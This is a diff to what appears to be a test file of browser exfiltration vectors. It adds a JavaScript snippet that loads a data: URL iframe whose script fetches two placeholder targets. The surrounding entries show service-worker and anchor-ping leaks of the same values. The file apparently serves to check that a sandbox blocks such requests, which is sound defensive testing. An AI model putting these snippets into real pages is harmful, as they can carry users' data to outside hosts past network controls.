@@ -97,6 +97,13 @@ VECTORS: dict[str, tuple[str, bool]] = {
         ".register('/sw.js?f=' + encodeURIComponent(F)).catch(() => 0)",
         True,
     ),
+    "data_iframe_fetch": (
+        # a data: iframe renders (no request to refuse); what it fetches is still policed
+        "var i = document.createElement('iframe'); i.src = 'data:text/html,<script>'"
+        " + 'fetch(' + JSON.stringify(C) + ');fetch(' + JSON.stringify(F) + ')</scr' + 'ipt>';"
+        "document.body.append(i)",
+        True,
+    ),
     "anchor_ping": (
         "var a = document.createElement('a'); a.href = '#x'; a.ping = F + ' ' + C;"
         "document.body.append(a); a.click()",
